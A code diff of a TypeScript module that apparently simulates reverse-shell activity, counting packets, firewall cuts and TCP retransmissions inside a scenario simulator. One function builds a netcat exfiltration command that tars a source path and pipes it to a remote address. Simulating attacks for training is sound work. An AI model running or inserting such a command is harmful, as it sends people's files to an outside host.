@@ -11,18 +11,17 @@
  */
 import type { IssuePath } from '../../scenario/issues';
 import type { TimelineEntryOf } from '../../scenario/schema-timeline';
-import { packetVerdict } from '../firewall';
 import type { FdEntry } from '../types';
 import type { CompileCtx } from './compile-ctx';
 import { respawnKey, type WorldCtx } from './context';
+import { cutAt, RETRANS_GIVE_UP, retransCount } from './tcp-cut';
 import { interactiveInfo, pathFd, pipeFd, proc, sockFd, tcp } from './make';
+import { countConversation, HEADER, type Tally } from './conversation';
 import type { BehaviourModule, Collector } from './module';
 import { fill, flavour } from './shell-flavours';
 import { parseDuration, parseHostPort } from './time';
 import type { ChainProcess, Exfil, FdSpec, ReverseShell } from './types';
 
-/** tcp_retries2 = 15: how long unacknowledged data is retransmitted. */
-export const RETRANS_GIVE_UP = 924_600;
 
 export function compileReverseShell(
   e: TimelineEntryOf<'reverse-shell'>, path: IssuePath, cc: CompileCtx,
@@ -71,36 +70,6 @@ function reserveRespawns(id: string, pipes: number, cc: CompileCtx): ReverseShel
       sk: cc.sk(), localPort: cc.port(`revshell:${id}:${n}`),
     };
   });
-}
-
-/** The first firewall epoch from `from` on that stops the connection, or Infinity. */
-export function cutAt(
-  ctx: WorldCtx, from: number, local: { addr: string; port: number },
-  remote: { addr: string; port: number },
-): number {
-  const key = `cut:${from}:${local.addr}:${local.port}:${remote.addr}:${remote.port}`;
-  const known = ctx.memo.get(key) as number | undefined;
-  if (known !== undefined) return known;
-  const cut = firstCut(ctx, from, local, remote);
-  ctx.memo.set(key, cut);
-  return cut;
-}
-
-function firstCut(
-  ctx: WorldCtx, from: number, local: { addr: string; port: number },
-  remote: { addr: string; port: number },
-): number {
-  const start = ctx.epochAt(from);
-  for (let e = start; e < ctx.epochStarts.length; e++) {
-    const when = e === start ? from : ctx.epochStarts[e]!;
-    const fw = ctx.firewallAt(when);
-    const out = packetVerdict(fw, 'OUTPUT', { proto: 'tcp', src: local.addr, dst: remote.addr,
-      sport: local.port, dport: remote.port, outIface: ctx.iface, ctstate: 'ESTABLISHED' });
-    const back = packetVerdict(fw, 'INPUT', { proto: 'tcp', src: remote.addr, dst: local.addr,
-      sport: remote.port, dport: local.port, inIface: ctx.iface, ctstate: 'ESTABLISHED' });
-    if (out !== 'ACCEPT' || back !== 'ACCEPT') return when;
-  }
-  return Infinity;
 }
 
 const holdsSocket = (c: ChainProcess) => c.fds.some((f) => 'sock' in f);
@@ -254,21 +223,34 @@ function exfilCommand(x: Exfil): string {
   return `tar czf - ${x.source} | nc ${dst}`;
 }
 
-function contribute(b: ReverseShell, ctx: WorldCtx, t: number, out: Collector): void {
-  shellEpochs(b, ctx).forEach((e, i) => contributeEpoch(b, ctx, e, i === 0, t, out));
+/** What the shell has sent (its prompt) and received (a hello, then each command line). */
+function shellTally(at: number, typed: readonly { text: string }[]): Tally {
+  const bytesIn = typed.reduce((n, c) => n + c.text.length + 1, 31);
+  const i = interactiveInfo(30, bytesIn, 0, 0.4, false);
+  return { at, bytesOut: i.bytesSent, segsOut: i.segsOut, bytesIn, segsIn: i.segsIn + typed.length };
 }
 
-/** Retransmissions after `ms` with RTO doubling from 200 ms up to 120 s. */
-export function retransCount(ms: number): number {
-  let rto = 200;
-  let elapsed = 0;
-  let n = 0;
-  while (elapsed + rto <= ms && n < 15) {
-    elapsed += rto;
-    rto = Math.min(rto * 2, 120_000);
-    n++;
+/** The connection's packets up to t, and its retransmissions once the firewall cuts it. */
+function countEpoch(b: ReverseShell, ctx: WorldCtx, e: ShellEpoch, first: boolean, t: number, out: Collector) {
+  if (t < e.start) return;
+  const local = { addr: ctx.hostAddr, port: e.localPort };
+  const typed = first ? typedInto(b, ctx).filter((c) => c.at >= e.start && c.at < e.sockEnd) : [];
+  const tallies = [shellTally(e.start, []), ...typed.map((c, i) => shellTally(c.at, typed.slice(0, i + 1)))];
+  countConversation(ctx, out, { local, remote: b.to, server: false }, tallies, Math.min(t, e.sockEnd));
+  const until = Math.min(t, e.sockEnd);
+  if (until <= e.cut) return;
+  const n = retransCount(until - e.cut);
+  if (n > 0) {
+    out.count(ctx.epochAt(until), 'OUTPUT', { proto: 'tcp', src: local.addr, dst: b.to.addr,
+      sport: local.port, dport: b.to.port, outIface: ctx.iface, ctstate: 'ESTABLISHED' }, n, n * (41 + HEADER));
   }
-  return n;
+}
+
+function contribute(b: ReverseShell, ctx: WorldCtx, t: number, out: Collector): void {
+  shellEpochs(b, ctx).forEach((e, i) => {
+    contributeEpoch(b, ctx, e, i === 0, t, out);
+    countEpoch(b, ctx, e, i === 0, t, out);
+  });
 }
 
 export const reverseShellModule: BehaviourModule<ReverseShell> = {
